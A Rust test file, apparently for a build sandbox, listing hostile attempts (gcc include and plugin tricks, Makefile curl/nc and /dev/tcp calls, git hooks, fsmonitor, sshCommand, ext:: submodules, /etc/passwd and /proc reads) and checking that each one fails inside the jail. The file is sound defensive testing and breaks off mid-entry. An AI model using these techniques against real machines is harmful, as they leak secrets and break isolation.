//! What a hostile tree could hold, one attempt a row: in the jail it gets nothing out and reads nothing beside the
//! grants; outside the jail the same does what it wants.

use std::{
    collections::BTreeSet,
    process::{Command, Stdio},
    time::Duration,
};

use jail::tool::{Output, run};

use crate::{ground::Ground, launcher, succeeded, task, text};

/// In texts, `{TREE}`, `{SCRATCH}` and `{OUTSIDE}` are folders, `{PORT}` and `{ABSTRACT}` listeners, `{PARENT}` this
/// process. `{OUTSIDE}/secret.h` holds the secret, `{OUTSIDE}/socket` is a listener.
pub(crate) struct Attempt {
    pub(crate) name: &'static str,
    /// Files of the tree, or of scratch, with their texts; all can be executed, as far as their place admits that.
    files: &'static [(&'static str, &'static str)],
    /// What else has to be made first, outside the jail.
    prepare: fn(&Ground),
    program: &'static str,
    arguments: &'static [&'static str],
    /// Whether scratch may be executed: then only what the tool itself may do stops it.
    executes: bool,
    /// What it says in the jail, all of these.
    says: &'static [&'static str],
    /// What it achieves outside.
    achieves: Achieves,
}

enum Achieves {
    /// The secret is in what it writes, or in scratch.
    Leak,
    /// Each of the listeners that it connects to: TCP, path, abstract name.
    Connections([bool; 3]),
    /// `{OUTSIDE}/planted`.
    AFile,
    /// It ends with success, which in the jail it does not.
    Success,
    /// It says all of these, which in the jail it does not.
    Words(&'static [&'static str]),
    /// It is not made outside, for this reason.
    Untried(&'static str),
}

impl Attempt {
    pub(crate) fn check(&self, with_control: bool) {
        let ground = self.ground();
        let before = ground.around();
        let arguments: Vec<String> = self.arguments.iter().map(|argument| ground.fill(argument)).collect();
        let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
        let mut task = task(&ground.tree, &ground.scratch, self.program, &words);
        task.scratch_executes = self.executes;
        let outcome = run(&launcher(), &task).unwrap();
        let said = text(&outcome);
        if std::env::var_os(crate::SHOW).is_some() {
            println!("== {}: {:?}\n{said}", self.name, outcome.end);
        }
        for part in self.says {
            let part = ground.fill(part);
            assert!(said.contains(&part), "in the jail it does not say {part:?}:\n{said}\n{:?}", outcome.end);
        }
        assert_eq!(ground.connections(), [0, 0, 0], "it connected:\n{said}");
        assert!(!leaks(&ground, &[&outcome.stdout, &outcome.stderr]), "the secret is out:\n{said}");
        assert_eq!(ground.around(), before, "something outside scratch has changed:\n{said}");
        match self.achieves {
            Achieves::Success => assert!(!succeeded(&outcome), "it succeeded:\n{said}"),
            Achieves::Words(words) => {
                for word in words {
                    assert!(!said.contains(&ground.fill(word)), "in the jail it says {word:?}:\n{said}");
                }
            }
            Achieves::Leak | Achieves::Connections(_) | Achieves::AFile | Achieves::Untried(_) => {}
        }
        if with_control {
            self.control();
        }
    }

    fn ground(&self) -> Ground {
        let ground = Ground::new();
        for (path, text) in self.files {
            ground.put(path, text);
        }
        (self.prepare)(&ground);
        ground
    }

    /// The same, on a fresh ground, without a jail.
    fn control(&self) {
        if let Achieves::Untried(reason) = self.achieves {
            println!("NOT TRIED outside: {}: {reason}", self.name);
            return;
        }
        let ground = self.ground();
        let before: BTreeSet<_> = ground.around().into_keys().collect();
        let mut command = Command::new("/usr/bin/timeout");
        command
            .args(["60", self.program])
            .args(self.arguments.iter().map(|argument| ground.fill(argument)))
            .current_dir(&ground.tree)
            .env_clear()
            .envs(jail::tool::environment(&ground.scratch))
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let mut reached = [false; 3];
        if let Achieves::Connections(expected) = self.achieves {
            // Who connected waits for an answer, and gets none.
            while reached != expected && child.try_wait().unwrap().is_none() {
                std::thread::sleep(Duration::from_millis(10));
                let [tcp, path, name] = ground.connections().map(|count| count > 0);
                reached = [reached[0] || tcp, reached[1] || path, reached[2] || name];
            }
            // `timeout` passes it on.
            let pid = rustix::process::Pid::from_child(&child);
            let _ended = rustix::process::kill_process(pid, rustix::process::Signal::TERM);
        }
        let output = child.wait_with_output().unwrap();
        let [stdout, stderr] = [output.stdout, output.stderr].map(|bytes| Output { bytes, cut: false });
        let said = String::from_utf8_lossy(&[stdout.bytes.as_slice(), &stderr.bytes].concat()).into_owned();
        match self.achieves {
            Achieves::Leak => {
                assert!(leaks(&ground, &[&stdout, &stderr]), "outside it leaks nothing:\n{said}")
            }
            Achieves::Connections(expected) => {
                let last = ground.connections().map(|count| count > 0);
                let reached = [0, 1, 2].map(|number| reached[number] || last[number]);
                assert_eq!(reached, expected, "outside it connects otherwise:\n{said}");
            }
            Achieves::AFile => {
                let planted = ground.outside.join("planted");
                let made: Vec<_> =
                    ground.around().into_keys().filter(|path| !before.contains(path)).collect();
                assert!(made.contains(&planted), "outside it makes nothing: {made:?}\n{said}");
            }
            Achieves::Success => assert!(output.status.success(), "outside it fails:\n{said}"),
            Achieves::Words(words) => {
                for word in words {
                    let word = ground.fill(word);
                    assert!(said.contains(&word), "outside it does not say {word:?}:\n{said}");
                }
            }
            Achieves::Untried(_) => {}
        }
    }
}

fn leaks(ground: &Ground, outputs: &[&Output]) -> bool {
    let secret = ground.secret.as_bytes();
    ground.secret_in_scratch()
        || outputs.iter().any(|output| output.bytes.windows(secret.len()).any(|window| window == secret))
}

const NOTHING: fn(&Ground) = |_| ();

/// A row with what most rows have.
const ROW: Attempt = Attempt {
    name: "",
    files: &[],
    prepare: NOTHING,
    program: "/bin/sh",
    arguments: &[],
    executes: false,
    says: &[],
    achieves: Achieves::Leak,
};

const GCC: &str = "/usr/bin/gcc";
const GIT: &str = "/usr/bin/git";
const MAKE: &str = "/usr/bin/make";
const PYTHON: &str = "/usr/bin/python3";
const MAKEFILE: &str = "tree/Makefile";

/// A repository in scratch with two branches; `tree` goes unused.
fn repository(ground: &Ground) {
    git(ground, "scratch/r", &["init", "-q", "-b", "main"]);
    ground.put("scratch/r/file", "one\n");
    commit(ground, "scratch/r");
    git(ground, "scratch/r", &["branch", "other"]);
}

fn commit(ground: &Ground, folder: &str) {
    git(ground, folder, &["add", "-A"]);
    let who = ["-c", "user.name=n", "-c", "user.email=e@example.org"];
    git(ground, folder, &[&who[..], &["commit", "-qm", "a commit"]].concat());
}

fn git(ground: &Ground, folder: &str, arguments: &[&str]) {
    ground.prepare(folder, GIT, arguments);
}

/// A repository outside that holds the secret.
fn repository_outside(ground: &Ground) {
    git(ground, "outside/r", &["init", "-q", "-b", "main"]);
    ground.prepare("outside/r", "/bin/cp", &["{OUTSIDE}/secret.h", "file"]);
    commit(ground, "outside/r");
}

pub(crate) const ATTEMPTS: &[Attempt] = &[
    // C and its driver.
    Attempt {
        name: "c: including a file by its path",
        files: &[("tree/a.c", "#include \"{OUTSIDE}/secret.h\"\n")],
        program: GCC,
        arguments: &["-E", "a.c"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "c: including a file by a way up",
        files: &[("tree/a.c", "#include \"../outside/secret.h\"\n")],
        program: GCC,
        arguments: &["-E", "a.c"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "c: including the users' hashes",
        files: &[("tree/a.c", "#include \"/etc/passwd\"\n")],
        program: GCC,
        arguments: &["-E", "a.c"],
        says: &["/etc/passwd: No such file or directory"],
        achieves: Achieves::Words(&["root:"]),
        ..ROW
    },
    Attempt {
        name: "c: include_next, from a path of the command line",
        files: &[("tree/secret.h", "#include_next <secret.h>\n"), ("tree/a.c", "#include <secret.h>\n")],
        program: GCC,
        arguments: &["-E", "-I{TREE}", "-I{OUTSIDE}", "a.c"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "c: asking whether a file exists",
        files: &[(
            "tree/a.c",
            "#if __has_include(\"{OUTSIDE}/secret.h\")\n#error it is there\n#else\n#error it is not\n#endif\n",
        )],
        program: GCC,
        arguments: &["-E", "a.c"],
        says: &["#error it is not"],
        achieves: Achieves::Words(&["#error it is there"]),
        ..ROW
    },
    Attempt {
        name: "c: incbin",
        files: &[("tree/a.c", "__asm__(\".incbin \\\"{OUTSIDE}/secret.h\\\"\");\n")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{SCRATCH}/a.o"],
        says: &["file not found: {OUTSIDE}/secret.h"],
        ..ROW
    },
    Attempt {
        name: "as: including a file",
        files: &[("tree/a.s", ".include \"{OUTSIDE}/secret.h\"\n")],
        program: "/usr/bin/as",
        arguments: &["a.s", "-o", "{SCRATCH}/a.o"],
        says: &["can't open {OUTSIDE}/secret.h for reading: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: a file of arguments",
        program: GCC,
        arguments: &["@{OUTSIDE}/secret.h"],
        says: &["@{OUTSIDE}/secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: a hostile file of arguments, whose wrapper reads",
        files: &[("tree/a.c", ""), ("tree/options", "-wrapper /bin/sh,-c,'cat {OUTSIDE}/secret.h'\n")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{SCRATCH}/a.o", "@options"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: a wrapper from the tree",
        files: &[("tree/a.c", ""), ("tree/wrapper", "#!/bin/sh\ncat {OUTSIDE}/secret.h\n")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{SCRATCH}/a.o", "-wrapper", "{TREE}/wrapper"],
        says: &["Permission denied"],
        ..ROW
    },
    Attempt {
        name: "gcc: passes from the tree",
        files: &[("tree/a.c", ""), ("tree/bin/cc1", "#!/bin/sh\ncat {OUTSIDE}/secret.h\n")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{SCRATCH}/a.o", "-B{TREE}/bin/"],
        ..ROW
    },
    Attempt {
        name: "gcc: passes from scratch, which is executed",
        files: &[("tree/a.c", ""), ("scratch/bin/cc1", "#!/bin/sh\ncat {OUTSIDE}/secret.h\n")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{SCRATCH}/a.o", "-B{SCRATCH}/bin/"],
        executes: true,
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: specs from the tree",
        files: &[("tree/a.c", ""), ("tree/specs", ".c:\ncat {OUTSIDE}/secret.h\n")],
        program: GCC,
        arguments: &["-specs={TREE}/specs", "-c", "a.c", "-o", "{SCRATCH}/a.o"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: a plugin from the tree",
        files: &[
            ("tree/a.c", ""),
            (
                "tree/plugin.c",
                "#include <stdio.h>\n__attribute__((constructor)) static void f(void) { char t[64] = {0}; \
                 FILE *s = fopen(\"{OUTSIDE}/secret.h\", \"r\"); if (s) fputs(fgets(t, 63, s), stderr); }\n",
            ),
        ],
        prepare: |ground| ground.prepare("tree", GCC, &["-shared", "-fPIC", "plugin.c", "-o", "plugin.so"]),
        program: GCC,
        arguments: &["-fplugin={TREE}/plugin.so", "-c", "a.c", "-o", "{SCRATCH}/a.o"],
        says: &["failed to map segment from shared object"],
        ..ROW
    },
    Attempt {
        name: "gcc: a plugin from scratch, which is executed",
        files: &[
            ("tree/a.c", ""),
            (
                "scratch/plugin.c",
                "#include <stdio.h>\n__attribute__((constructor)) static void f(void) { char t[64] = {0}; \
                 FILE *s = fopen(\"{OUTSIDE}/secret.h\", \"r\"); if (s) fputs(fgets(t, 63, s), stderr); \
                 else perror(\"from a plugin\"); }\n",
            ),
        ],
        prepare: |ground| {
            ground.prepare("scratch", GCC, &["-shared", "-fPIC", "plugin.c", "-o", "plugin.so"])
        },
        program: GCC,
        arguments: &["-fplugin={SCRATCH}/plugin.so", "-c", "a.c", "-o", "{SCRATCH}/a.o"],
        executes: true,
        says: &["from a plugin: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "gcc: an object outside",
        files: &[("tree/a.c", "")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{OUTSIDE}/planted"],
        says: &["No such file or directory"],
        achieves: Achieves::AFile,
        ..ROW
    },
    Attempt {
        name: "gcc: an object in the tree",
        files: &[("tree/a.c", "")],
        program: GCC,
        arguments: &["-c", "a.c", "-o", "{TREE}/planted"],
        says: &["Read-only file system"],
        achieves: Achieves::Success,
        ..ROW
    },
    Attempt {
        name: "gcc: a linker that takes a file in",
        program: GCC,
        arguments: &["-nostdlib", "-r", "-Wl,-b,binary,{OUTSIDE}/secret.h", "-o", "{SCRATCH}/a"],
        says: &["cannot find {OUTSIDE}/secret.h"],
        ..ROW
    },
    Attempt {
        name: "gcc: a compiled program that connects",
        files: &[("tree/connect.c", CONNECT_C)],
        arguments: &["-c", "gcc connect.c -o {SCRATCH}/connect && {SCRATCH}/connect"],
        executes: true,
        says: &[
            "inet Operation not permitted",
            "unix Operation not permitted",
            "raw system call -1",
            "read No such file",
        ],
        achieves: Achieves::Connections([true, true, false]),
        ..ROW
    },
    Attempt {
        name: "gcc: a compiled program, where nothing compiled is executed",
        files: &[("tree/a.c", "#include <stdio.h>\nint main(void) { puts(\"it \" \"ran\"); return 0; }\n")],
        arguments: &["-c", "gcc a.c -o {SCRATCH}/a; {SCRATCH}/a; /lib64/ld-linux-x86-64.so.2 {SCRATCH}/a"],
        says: &["Permission denied", "failed to map segment from shared object"],
        achieves: Achieves::Words(&["it ran"]),
        ..ROW
    },
    // Ada.
    Attempt {
        name: "ada: a unit from outside",
        files: &[(
            "tree/a.adb",
            "with Secret; with Ada.Text_IO;\nprocedure A is begin Ada.Text_IO.Put_Line (Secret.Word); end A;\n",
        )],
        program: GCC,
        arguments: &["-c", "a.adb", "-I{OUTSIDE}", "-o", "{SCRATCH}/a.o"],
        says: &["file \"secret.ads\" not found"],
        achieves: Achieves::Success,
        ..ROW
    },
    Attempt {
        name: "ada: configuration pragmas from outside",
        files: &[("tree/a.adb", "procedure A is begin null; end A;\n")],
        program: GCC,
        arguments: &["-c", "a.adb", "-gnatec={OUTSIDE}/secret.h", "-gnatl", "-o", "{SCRATCH}/a.o"],
        says: &["cannot find configuration pragmas file {OUTSIDE}/secret.h"],
        achieves: Achieves::Words(&["1 line: 1 error"]),
        ..ROW
    },
    Attempt {
        name: "gprbuild: sources from outside",
        files: &[(
            "tree/p.gpr",
            "project P is\n   for Source_Dirs use (\"{OUTSIDE}\");\n   for Object_Dir use \"{SCRATCH}\";\nend P;\n",
        )],
        program: "/usr/bin/gprbuild",
        arguments: &["-c", "-P", "p.gpr"],
        says: &["is not a valid directory"],
        ..ROW
    },
    Attempt {
        name: "gprbuild: a project whose compiler lies in the tree",
        files: &[
            (
                "tree/p.gpr",
                "project P is\n   for Languages use (\"C\");\n   for Object_Dir use \"{SCRATCH}\";\n   package Compiler is\n      \
                 for Driver (\"C\") use \"{TREE}/evil\";\n   end Compiler;\nend P;\n",
            ),
            ("tree/evil", "#!/bin/sh\ncat {OUTSIDE}/secret.h\n"),
            ("tree/a.c", ""),
        ],
        program: "/usr/bin/gprbuild",
        arguments: &["-c", "-P", "p.gpr"],
        says: &["compilation phase failed"],
        ..ROW
    },
    Attempt {
        name: "gprbuild: a project whose compiler lies in scratch, which is executed",
        files: &[
            (
                "tree/p.gpr",
                "project P is\n   for Languages use (\"C\");\n   for Object_Dir use \"{SCRATCH}\";\n   package Compiler is\n      \
                 for Driver (\"C\") use \"{SCRATCH}/evil\";\n   end Compiler;\nend P;\n",
            ),
            ("scratch/evil", "#!/bin/sh\ncat {OUTSIDE}/secret.h\n"),
            ("tree/a.c", ""),
        ],
        program: "/usr/bin/gprbuild",
        arguments: &["-c", "-P", "p.gpr"],
        executes: true,
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    // VHDL.
    Attempt {
        name: "vhdl: reading a file",
        files: &[("tree/a.vhd", READ_VHDL)],
        arguments: &["-c", "ghdl -a --workdir={SCRATCH} a.vhd && ghdl -r --workdir={SCRATCH} a"],
        says: &["cannot open file", "secret.h"],
        ..ROW
    },
    Attempt {
        name: "vhdl: writing a file",
        files: &[("tree/a.vhd", WRITE_VHDL)],
        arguments: &["-c", "ghdl -a --workdir={SCRATCH} a.vhd && ghdl -r --workdir={SCRATCH} a"],
        says: &["cannot open file", "planted"],
        achieves: Achieves::AFile,
        ..ROW
    },
    Attempt {
        name: "vhdl: VHPIDIRECT, a foreign function that connects and reads",
        files: &[("tree/a.vhd", FOREIGN_VHDL), ("tree/foreign.c", FOREIGN_C)],
        arguments: &[
            "-c",
            "gcc -shared -fPIC foreign.c -o {SCRATCH}/f.so && cd {SCRATCH} && ghdl -a {TREE}/a.vhd && ghdl -r a",
        ],
        executes: true,
        says: &[
            "inet Operation not permitted",
            "unix Operation not permitted",
            "raw system call -1",
            "read No such file",
            "answered 42",
        ],
        achieves: Achieves::Connections([true, true, false]),
        ..ROW
    },
    Attempt {
        name: "vhdl: VHPIDIRECT, a foreign function from the tree",
        files: &[("tree/a.vhd", FOREIGN_VHDL), ("tree/foreign.c", FOREIGN_C)],
        prepare: |ground| ground.prepare("tree", GCC, &["-shared", "-fPIC", "foreign.c", "-o", "f.so"]),
        arguments: &["-c", "ghdl -a --workdir={SCRATCH} a.vhd && ghdl -r --workdir={SCRATCH} a"],
        says: &["cannot load VHPIDIRECT shared library"],
        achieves: Achieves::Words(&["answered 42"]),
        ..ROW
    },
    // Verilog.
    Attempt {
        name: "verilog: including a file",
        files: &[("tree/a.v", "`include \"{OUTSIDE}/secret.h\"\n")],
        program: "/usr/bin/iverilog",
        arguments: &["-E", "-o", "{SCRATCH}/a", "a.v"],
        says: &["Include file {OUTSIDE}/secret.h not found"],
        ..ROW
    },
    Attempt {
        name: "verilog: readmemh",
        files: &[(
            "tree/a.v",
            "module a; reg [127:0] m [0:0]; initial begin $readmemh(\"{OUTSIDE}/secret.h\", m); $display(\"%h\", m[0]); end endmodule\n",
        )],
        arguments: &["-c", "iverilog -o {SCRATCH}/a a.v && vvp -n {SCRATCH}/a"],
        says: &["Unable to open {OUTSIDE}/secret.h for reading"],
        ..ROW
    },
    Attempt {
        name: "verilog: fopen for writing",
        files: &[(
            "tree/a.v",
            "module a; integer f; initial begin f = $fopen(\"{OUTSIDE}/planted\", \"w\"); $display(\"opened %0d\", f); end endmodule\n",
        )],
        arguments: &["-c", "iverilog -o {SCRATCH}/a a.v && vvp -n {SCRATCH}/a"],
        says: &["opened 0"],
        achieves: Achieves::AFile,
        ..ROW
    },
    Attempt {
        name: "verilog: a module for the simulator that runs commands, from the tree",
        files: &[
            ("tree/a.v", "module a; initial $system(\"cat {OUTSIDE}/secret.h\"); endmodule\n"),
            ("tree/evil.c", SYSTEM_VPI_C),
        ],
        prepare: |ground| {
            let arguments = ["-shared", "-fPIC", "-I/usr/include/iverilog", "evil.c", "-o", "evil.vpi"];
            ground.prepare("tree", GCC, &arguments);
        },
        arguments: &["-c", "iverilog -o {SCRATCH}/a a.v && vvp -n -M {TREE} -m evil {SCRATCH}/a"],
        says: &["failed to map segment from shared object"],
        ..ROW
    },
    Attempt {
        name: "verilog: $system, by a module that may be loaded",
        files: &[
            ("tree/a.v", "module a; initial $system(\"cat {OUTSIDE}/secret.h\"); endmodule\n"),
            ("scratch/evil.c", SYSTEM_VPI_C),
        ],
        prepare: |ground| {
            let arguments = ["-shared", "-fPIC", "-I/usr/include/iverilog", "evil.c", "-o", "evil.vpi"];
            ground.prepare("scratch", GCC, &arguments);
        },
        arguments: &["-c", "iverilog -o {SCRATCH}/a a.v && vvp -n -M {SCRATCH} -m evil {SCRATCH}/a"],
        executes: true,
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    // make.
    Attempt {
        name: "make: curl",
        files: &[(MAKEFILE, "all:\n\tcurl -sS --max-time 60 http://127.0.0.1:{PORT}/\n")],
        program: MAKE,
        says: &["curl: (7)"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "make: nc",
        files: &[(
            MAKEFILE,
            "all:\n\t-nc -v -z 127.0.0.1 {PORT} </dev/null\n\t-nc -v -w 1 -U {OUTSIDE}/socket </dev/null\n",
        )],
        program: MAKE,
        says: &["[Makefile:2: all] Error 1", "nc: {OUTSIDE}/socket: Operation not permitted"],
        achieves: Achieves::Connections([true, true, false]),
        ..ROW
    },
    Attempt {
        name: "make: bash and its paths for the network",
        files: &[(MAKEFILE, "SHELL=/bin/bash\nall:\n\techo x > /dev/tcp/127.0.0.1/{PORT}\n")],
        program: MAKE,
        says: &["/dev/tcp/127.0.0.1/{PORT}: Operation not permitted"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "make: ssh",
        files: &[(
            MAKEFILE,
            "all:\n\tssh -F none -o BatchMode=yes -o ConnectTimeout=60 -p {PORT} nobody@127.0.0.1 true\n",
        )],
        program: MAKE,
        says: &["No user exists for uid"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "make: writing beside scratch",
        files: &[(MAKEFILE, "all:\n\techo planted > {OUTSIDE}/planted\n")],
        program: MAKE,
        says: &["nonexistent"],
        achieves: Achieves::AFile,
        ..ROW
    },
    Attempt {
        name: "make: including a file",
        files: &[(MAKEFILE, "include {OUTSIDE}/secret.h\n")],
        program: MAKE,
        says: &["secret.h: No such file or directory"],
        achieves: Achieves::Words(&["missing separator"]),
        ..ROW
    },
    Attempt {
        name: "make: the toolchain is not changed",
        files: &[(
            MAKEFILE,
            "all:\n\t-touch /usr/bin/planted\n\t-chmod 0755 /usr/bin/gcc\n\t-mv /usr/bin/true /usr/bin/false\n\t-touch /planted /dev/planted\n\t-chmod 0777 {TREE} Makefile\n\t-ln -s /etc/passwd {TREE}/link\n",
        )],
        program: MAKE,
        says: &[
            "cannot touch '/usr/bin/planted': Read-only file system",
            "changing permissions of '/usr/bin/gcc': Read-only file system",
            "cannot move '/usr/bin/true'",
            "cannot touch '/planted': Read-only file system",
            "cannot touch '/dev/planted': Read-only file system",
            "changing permissions of 'Makefile': Read-only file system",
            "failed to create symbolic link",
        ],
        achieves: Achieves::Untried("root would change this machine"),
        ..ROW
    },
    // git.
    Attempt {
        name: "git: a hook",
        prepare: |ground| {
            repository(ground);
            ground.put(
                "scratch/r/.git/hooks/post-checkout",
                "#!/bin/sh\ncat {OUTSIDE}/secret.h > {SCRATCH}/leak\n",
            );
        },
        says: &["hook was ignored because it's not set as executable"],
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "checkout", "-q", "other"],
        ..ROW
    },
    Attempt {
        name: "git: a hook, where scratch is executed",
        prepare: |ground| {
            repository(ground);
            ground.put(
                "scratch/r/.git/hooks/post-checkout",
                "#!/bin/bash\ncat {OUTSIDE}/secret.h\necho x > /dev/tcp/127.0.0.1/{PORT}\n",
            );
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "checkout", "-q", "other"],
        executes: true,
        says: &["secret.h: No such file or directory", "/dev/tcp/127.0.0.1/{PORT}: Operation not permitted"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "git: fsmonitor",
        prepare: |ground| {
            repository(ground);
            git(ground, "scratch/r", &["config", "core.fsmonitor", "cat {OUTSIDE}/secret.h >&2; false"]);
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "status"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "git: core.sshCommand",
        prepare: |ground| {
            repository(ground);
            let command = "bash -c 'cat {OUTSIDE}/secret.h >&2; echo x > /dev/tcp/127.0.0.1/{PORT}'";
            git(ground, "scratch/r", &["config", "core.sshCommand", command]);
            git(ground, "scratch/r", &["config", "ssh.variant", "ssh"]);
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "fetch", "ssh://127.0.0.1:{PORT}/r"],
        says: &["secret.h: No such file or directory", "/dev/tcp/127.0.0.1/{PORT}: Operation not permitted"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "git: http",
        prepare: repository,
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "fetch", "http://127.0.0.1:{PORT}/r"],
        says: &["Failed to connect to 127.0.0.1"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "git: its own protocol",
        prepare: repository,
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "fetch", "git://127.0.0.1:{PORT}/r"],
        says: &["Operation not permitted"],
        achieves: Achieves::Connections([true, false, false]),
        ..ROW
    },
    Attempt {
        name: "git: a submodule with a command for its address",
        prepare: |ground| {
            repository(ground);
            git(ground, "scratch/r", &["config", "protocol.ext.allow", "always"]);
            git(ground, "scratch/r", &["config", "submodule.m.url", "ext::sh -c cat% {OUTSIDE}/secret.h>&2"]);
            ground.put(
                "scratch/r/.gitmodules",
                "[submodule \"m\"]\n\tpath = m\n\turl = ext::sh -c cat% {OUTSIDE}/secret.h>&2\n",
            );
            let link = "160000,0123456789012345678901234567890123456789,m";
            git(ground, "scratch/r", &["update-index", "--add", "--cacheinfo", link]);
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "-c", "protocol.ext.allow=always", "submodule", "update"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "git: a submodule with a file for its address",
        prepare: |ground| {
            repository_outside(ground);
            repository(ground);
            ground
                .put("scratch/r/.gitmodules", "[submodule \"m\"]\n\tpath = m\n\turl = file://{OUTSIDE}/r\n");
            git(ground, "outside/r", &["config", "uploadpack.allowAnySHA1InWant", "true"]);
            git(ground, "scratch/r", &["config", "submodule.m.url", "file://{OUTSIDE}/r"]);
            git(
                ground,
                "scratch/r",
                &["-c", "protocol.file.allow=always", "submodule", "add", "file://{OUTSIDE}/r", "n"],
            );
            git(ground, "scratch/r", &["submodule", "deinit", "-f", "n"]);
            ground.prepare("scratch/r", "/bin/rm", &["-rf", ".git/modules/n", "n"]);
        },
        program: GIT,
        arguments: &[
            "-C",
            "{SCRATCH}/r",
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "update",
            "--init",
            "n",
        ],
        says: &["does not appear to be a git repository"],
        achieves: Achieves::Success,
        ..ROW
    },
    Attempt {
        name: "git: a filter",
        prepare: |ground| {
            repository(ground);
            git(ground, "scratch/r", &["config", "filter.evil.smudge", "cat {OUTSIDE}/secret.h"]);
            ground.put("scratch/r/.gitattributes", "file filter=evil\n");
            ground.prepare("scratch/r", "/bin/rm", &["file"]);
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "checkout", "--", "file"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "git: objects of another repository",
        prepare: |ground| {
            repository_outside(ground);
            repository(ground);
            ground.put("scratch/r/.git/objects/info/alternates", "{OUTSIDE}/r/.git/objects\n");
            let store = "git -C {OUTSIDE}/r rev-parse HEAD:file > {SCRATCH}/r/name";
            ground.prepare("scratch", "/bin/sh", &["-c", store]);
        },
        arguments: &["-c", "git -C {SCRATCH}/r cat-file blob $(cat {SCRATCH}/r/name)"],
        says: &["unable to normalize alternate object path"],
        ..ROW
    },
    Attempt {
        name: "git: a textconv of a diff",
        prepare: |ground| {
            repository(ground);
            git(ground, "scratch/r", &["config", "diff.evil.textconv", "cat {OUTSIDE}/secret.h >&2; cat"]);
            ground.put("scratch/r/.gitattributes", "file diff=evil\n");
            ground.put("scratch/r/file", "two\n");
        },
        program: GIT,
        arguments: &["-C", "{SCRATCH}/r", "diff"],
        says: &["secret.h: No such file or directory"],
        ..ROW
    },
    Attempt {
        name: "a symbolic link in the tree",
        prepare: |ground| {
            std::os::unix::fs::symlink(ground.outside.join("secret.h"), ground.tree.join("link")).unwrap();
            std::os::unix::fs::symlink("../outside", ground.tree.join("folder")).unwrap();
        },
        arguments: &[
            "-c",
            "cat link; cat folder/secret.h; cp -L link {SCRATCH}/copy; ln {OUTSIDE}/secret.h {SCRATCH}/hard",
        ],
        says: &[
            "cat: link: No such file or directory",
            "cat: folder/secret.h: No such file or directory",
            "ln: failed to access",
        ],
        ..ROW
    },
    // Landlock alone stops this one: the folders are there.
    Attempt {
        name: "listing folders beside the grants",
        arguments: &["-c", "ls / /dev /tmp {TREE}/.. && echo all are listed"],
        says: &[
            "cannot open directory '/': Permission denied",
            "cannot open directory '/dev': Permission denied",
            "cannot open directory '/tmp': Permission denied",
            "cannot open directory '{TREE}/..': Permission denied",
        ],
        achieves: Achieves::Words(&["all are listed"]),
        ..ROW
    },
    // Python, for what only calls can do.
    Attempt {
        name: "python: sockets of each family",
        files: &[("tree/a.py", SOCKETS_PY)],
        program: PYTHON,
        arguments: &["a.py"],
        says: &[
            "tcp EPERM",
            "tcp6 EPERM",
            "udp EPERM",
            "udp6 EPERM",
            "icmp EPERM",
            "raw EPERM",
            "packet EPERM",
            "netlink EPERM",
            "vsock EPERM",
            "alg EPERM",
            "unix path EPERM",
            "unix name EPERM",
            "unix datagram EPERM",
            "unix seqpacket EPERM",
            "pair EPERM",
        ],
        achieves: Achieves::Connections([true, true, true]),
        ..ROW
    },
    Attempt {
        name: "python: calls by number",
        files: &[("tree/a.py", SYSCALLS_PY)],
        program: PYTHON,
        arguments: &["a.py"],
        says: &["admitted: []"],
        achieves: Achieves::Words(&[
            "'ptrace'",
            "'io_uring_setup'",
            "'pidfd_open'",
            "'userfaultfd'",
            "'personality'",
            "'socket'",
        ]),
        ..ROW
    },
    Attempt {
        name: "python: the parent's environment and descriptors",
        arguments: &[
            "-c",
            "cat /proc/{PARENT}/environ | tr '\\0' '\\n' | sed s/^PATH=.*/seen/; ls /proc/{PARENT}/fd /proc/self/fd; echo $PPID",
        ],
        says: &[
            "cat: /proc/{PARENT}/environ: No such file",
            "cannot access '/proc/{PARENT}/fd'",
            "'/proc/self/fd'",
            "1\ncat",
        ],
        achieves: Achieves::Words(&["seen"]),
        ..ROW
    },
    Attempt {
        name: "python: signals to the parent, and to its own keeper",
        files: &[("tree/a.py", SIGNALS_PY)],
        program: PYTHON,
